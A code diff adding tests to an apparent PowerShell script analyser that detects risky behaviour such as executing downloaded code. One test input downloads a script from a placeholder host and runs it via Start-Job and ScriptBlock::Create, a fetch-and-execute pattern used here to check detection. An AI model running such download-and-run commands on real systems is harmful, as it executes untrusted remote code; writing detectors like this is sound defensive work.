@@ -364,3 +364,19 @@ def test_a_loop_over_ordinary_folders_reads_no_secret(tmp_path: Path) -> None:
         "Get-Content -Raw (Join-Path $env:USERPROFILE 'notes.txt')\n",
     )
     assert not [c for c in found if c.kind is Kind.SECRET_READ]
+
+
+def test_a_script_block_made_from_a_download_and_handed_to_a_job_runs_it(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$text = Invoke-RestMethod -Uri 'https://jobs.example.invalid/step.ps1'\n"
+        "Start-Job -ScriptBlock ([ScriptBlock]::Create($text)) | Wait-Job\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED)[-1] == (2, "runs what it downloaded (runs it with start-job)")
+
+
+def test_a_literal_script_block_handed_to_invoke_command_is_read_in_place_not_run_again(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path, "Invoke-Command -ComputerName build01 -ScriptBlock { Get-Service | Select-Object -First 3 }\n"
+    )
+    assert found == []
